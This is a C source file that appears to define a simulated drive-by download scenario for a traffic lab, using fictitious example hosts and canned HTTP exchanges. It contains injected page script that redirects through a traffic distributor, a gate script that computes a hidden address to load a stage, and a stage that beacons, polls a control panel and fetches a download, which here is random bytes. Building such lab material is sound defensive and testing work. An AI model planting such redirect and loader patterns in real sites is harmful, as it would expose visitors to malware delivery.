/* The demo of the lab: a drive-by of which a browser of today, led there again,
 * asks every exchange and no other. Each link of the chain needs something of
 * the lab: an IPv6 server, a client whose clock stands at the recording's time
 * (a cookie that expires), a bare address that a script computes, odd ports,
 * names at their recorded addresses (CORS), a name that does not exist.
 * Everything in it is made up and harmless. */
#include "dns.h"
#include "visit.h"

#include <string.h>

#define WWW "www.landing.example"
#define CDN "cdn.widget.example"
#define TDS "tds.redirect.example"
#define GATE "gate.exploit.example:8080"
#define BARE "203.0.113.66"
#define BARE_PORT 8181
#define BARE_HOST "203.0.113.66:8181"
#define PANEL "api.panel.example"
#define STATS "stats.beacon.example"
#define GONE "c2.gone.example"

/* The IPv6 addresses were the 6bone's, which gave them back (RFC 3701): what is
 * set aside for documentation is a local network to Chromium, which keeps
 * public pages from it (P36). That of IPv4 is not. */
#define WWW_IP "198.51.100.10"
#define CDN_IP "3ffe:20::20" /* AAAA alone */
#define TDS_IP "198.51.100.30"
#define GATE_IP "203.0.113.40"
#define PANEL_IP "198.51.100.50"
#define PANEL_IP6 "3ffe:50::50"
#define STATS_IP "203.0.113.77"

#define DOWNLOAD_LEN 60000

#define HTML "text/html; charset=utf-8"
#define SCRIPT "application/javascript"
#define REFERER(url) "Referer: http://" url "\r\n"
#define COOKIE "Cookie: visit=7f3a\r\n"
#define COOKIES "Cookie: seen=1; visit=7f3a\r\n"
#define NO_STORE "Cache-Control: no-store\r\n"
/* of the frame that the gate's page is shown in */
#define ORIGIN "http://" GATE

/* The cookie of the script is for one page alone: whether an image is asked for
 * before or after a script ran is the moment's. */
static const char landing[] =
    "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\n"
    "<title>Weather for the weekend</title>\n"
    "<link rel=\"icon\" href=\"data:,\">\n"
    "<link rel=\"stylesheet\" href=\"/style.css\">\n"
    "<script src=\"http://" CDN "/widget.js?v=3\"></script>\n"
    "</head><body>\n<h1>Weather for the weekend</h1>\n"
    "<img src=\"/sun.svg\" alt=\"\" width=\"64\" height=\"64\">\n"
    "<p id=\"widget\"></p>\n"
    "<script>\n"
    "document.cookie = 'seen=1; path=/today.html; '\n"
    "    + 'expires=Sat, 18 Mar 2017 10:12:05 GMT';\n"
    "</script>\n"
    "<iframe src=\"/today.html\" width=\"300\" height=\"120\"></iframe>\n"
    "<p>Sun on Saturday, showers on Sunday, bring a coat.</p>\n"
    "</body></html>\n";

static const char style[] = "body { font: 16px sans-serif; margin: 2em }\n"
			    "h1 { color: #246 }\niframe { border: 0 }\n";

static const char widget[] =
    "/* widget.js: a made-up script of a made-up site. */\n"
    "addEventListener('DOMContentLoaded', function () {\n"
    "  document.getElementById('widget').textContent =\n"
    "    'Tomorrow: sunny spells.';\n"
    "});\n";

static const char sun[] =
    "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\">"
    "<circle cx=\"32\" cy=\"32\" r=\"28\" fill=\"#fb3\"/></svg>\n";

/* What was put into the site: it goes on only with the site's cookies. The one
 * that a script set decides: those of an answer outlive a wrong clock, since
 * browsers measure Expires from the answer's Date. */
static const char today[] =
    "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\n"
    "<title>Today</title></head><body>\n<p>Today: fog, later sun.</p>\n"
    "<script>\n"
    "if (/visit=7f3a/.test(document.cookie) &&\n"
    "    /seen=1/.test(document.cookie)) {\n"
    "  var frame = document.createElement('iframe');\n"
    "  frame.src = 'http://" TDS "/in.php?id=88&src=landing';\n"
    "  document.body.appendChild(frame);\n"
    "}\n"
    "</script>\n</body></html>\n";

static const char gate[] =
    "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\n"
    "<title>Please wait</title></head><body>\n<p>Please wait.</p>\n"
    "<script src=\"/static/check.js\"></script>\n</body></html>\n";

/* The address and its port stand in no answer: this is where they come from. */
static const char check[] =
    "/* check.js: where a kit looks for plug-ins. This one does sums. */\n"
    "(function () {\n"
    "  var host = ['example'.length * 29, 0, 'q'.charCodeAt(0),\n"
    "              'B'.charCodeAt(0)].join('.');\n"
    "  var next = document.createElement('script');\n"
    "  next.src = 'http://' + host + ':' + (0x2000 - 11) +\n"
    "    '/p.js?n=' + (67 * 71 - 46);\n"
    "  document.body.appendChild(next);\n"
    "})();\n";

/* A name that nobody registered does not exist, or this is no real network. */
static const char stage[] =
    "/* p.js: asks its panel, reports, fetches a file of random bytes. */\n"
    "(function () {\n"
    "  var home = new URL(document.currentScript.src).origin;\n"
    "  function load(task) {\n"
    "    navigator.sendBeacon('http://" STATS "/seen',\n"
    "      'n=4711&state=' + task.state);\n"
    "    location.href = home + task.file;\n"
    "  }\n"
    "  function ask() {\n"
    "    fetch('http://" PANEL "/task', {\n"
    "      method: 'POST',\n"
    "      headers: {'Content-Type': 'application/json'},\n"
    "      body: JSON.stringify({n: 4711, found: []})\n"
    "    }).then(function (answer) { return answer.json(); }).then(load);\n"
    "  }\n"
    "  fetch('http://" GONE "/alive').then(function () {}, ask);\n"
    "})();\n";

static const struct step to_the_gate[] = {
    {.server = WWW_IP,
     .ask = {.host = WWW, .target = "/"},
     .answer = {.type = HTML,
		.fields = "Set-Cookie: visit=7f3a; path=/; "
			  "expires=Sat, 18 Mar 2017 10:12:05 GMT\r\n" NO_STORE,
		.coding = GZIP,
		.framing = CHUNKED},
     .text = landing},
    {.server = WWW_IP,
     .ask = {.host = WWW,
	     .target = "/style.css",
	     .fields = REFERER(WWW "/") COOKIE},
     .answer = {.type = "text/css"},
     .text = style},
    {.server = CDN_IP,
     .ask = {.host = CDN,
	     .target = "/widget.js?v=3",
	     .fields = REFERER(WWW "/")},
     .answer = {.type = SCRIPT, .coding = GZIP},
     .text = widget},
    {.server = WWW_IP,
     .ask = {.host = WWW,
	     .target = "/sun.svg",
	     .fields = REFERER(WWW "/") COOKIE},
     .answer = {.type = "image/svg+xml"},
     .text = sun},
    {.server = WWW_IP,
     .ask = {.host = WWW,
	     .target = "/today.html",
	     .fields = REFERER(WWW "/") COOKIES},
     .answer = {.type = HTML, .fields = NO_STORE},
     .text = today},
    {.server = TDS_IP,
     .ask = {.host = TDS,
	     .target = "/in.php?id=88&src=landing",
	     .fields = REFERER(WWW "/today.html")},
     .answer = {.status = 302,
		.type = HTML,
		.fields =
		    "Location: http://" GATE "/view?t=6b1f\r\n" NO_STORE}},
    {.server = GATE_IP,
     .port = 8080,
     .ask = {.host = GATE,
	     .target = "/view?t=6b1f",
	     .fields = REFERER(WWW "/today.html")},
     .answer = {.type = HTML, .fields = NO_STORE, .coding = GZIP},
     .text = gate},
    {.server = GATE_IP,
     .port = 8080,
     .ask = {.host = GATE,
	     .target = "/static/check.js",
	     .fields = REFERER(GATE "/view?t=6b1f")},
     .answer = {.type = SCRIPT, .coding = GZIP, .framing = CHUNKED},
     .text = check},
    {.server = BARE,
     .port = BARE_PORT,
     .ask = {.host = BARE_HOST,
	     .target = "/p.js?n=4711",
	     .fields = REFERER(GATE "/view?t=6b1f")},
     .answer = {.type = SCRIPT, .fields = NO_STORE},
     .text = stage},
};

#define FROM_GATE REFERER(GATE "/view?t=6b1f") "Origin: " ORIGIN "\r\n"
#define ALLOWED "Access-Control-Allow-Origin: " ORIGIN "\r\n"

static const struct step from_the_gate[] = {
    {.server = PANEL_IP,
     .also = PANEL_IP6,
     .ask = {.method = "OPTIONS",
	     .host = PANEL,
	     .target = "/task",
	     .fields =
		 FROM_GATE "Access-Control-Request-Method: POST\r\n"
			   "Access-Control-Request-Headers: content-type\r\n"},
     .answer = {.status = 204,
		.fields = ALLOWED "Access-Control-Allow-Methods: POST\r\n"
				  "Access-Control-Allow-Headers: "
				  "content-type\r\n",
		.framing = NO_BODY}},
    {.server = PANEL_IP,
     .ask = {.method = "POST",
	     .host = PANEL,
	     .target = "/task",
	     .fields = FROM_GATE "Content-Type: application/json\r\n"},
     .sent = "{\"n\":4711,\"found\":[]}",
     .answer = {.type = "application/json", .fields = ALLOWED},
     .text = "{\"state\":\"ready\",\"file\":\"/load/update-4711.bin\"}\n"},
    {.server = STATS_IP,
     .ask = {.method = "POST",
	     .host = STATS,
	     .target = "/seen",
	     .fields = FROM_GATE "Content-Type: text/plain;charset=UTF-8\r\n"},
     .sent = "n=4711&state=ready",
     .answer = {.status = 204, .fields = ALLOWED, .framing = NO_BODY}},
    {.server = BARE,
     .port = BARE_PORT,
     .ask = {.host = BARE_HOST,
	     .target = "/load/update-4711.bin",
	     .fields = REFERER(GATE "/view?t=6b1f")},
     .answer = {.type = "application/octet-stream",
		.fields = "Content-Disposition: attachment; "
			  "filename=update-4711.bin\r\n" NO_STORE},
     .noise = DOWNLOAD_LEN},
};

static void lab(struct scene *s)
{
	struct visit v = visit_begin(s, CHROME56);

	visit_steps(&v, STEPS(to_the_gate));
	dns_lookup(&s->net, VICTIM, GONE, NULL, NULL);
	visit_steps(&v, STEPS(from_the_gate));
	visit_end(&v);
}

const struct scenario lab_scenarios[] = {
    {"lab", "the lab's demo: a browser led there asks all of it", lab, 0},
    {0},
};
